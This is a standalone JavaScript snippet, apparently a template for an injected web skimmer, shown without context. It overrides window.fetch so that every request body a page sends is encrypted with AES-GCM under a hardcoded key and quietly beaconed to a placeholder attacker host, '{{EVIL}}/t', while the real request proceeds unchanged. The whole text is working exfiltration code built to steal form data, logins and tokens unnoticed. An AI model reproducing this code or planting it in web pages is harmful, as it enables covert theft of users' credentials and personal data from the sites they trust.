(function () {
  var real = window.fetch, raw = new Uint8Array(16);
  for (var i = 0; i < 16; i++) raw[i] = (i * 37 + 11) & 255;
  window.fetch = function (u, o) {
    if (o && o.body) {
      var iv = crypto.getRandomValues(new Uint8Array(12));
      crypto.subtle.importKey("raw", raw, "AES-GCM", false, ["encrypt"]).then(function (k) {
        return crypto.subtle.encrypt({ name: "AES-GCM", iv: iv }, k, new TextEncoder().encode(o.body));
      }).then(function (c) {
        var all = new Uint8Array(12 + c.byteLength);
        all.set(iv); all.set(new Uint8Array(c), 12);
        navigator.sendBeacon("{{EVIL}}/t", btoa(String.fromCharCode.apply(null, all)));
      });
    }
    return real.apply(this, arguments);
  };
})();
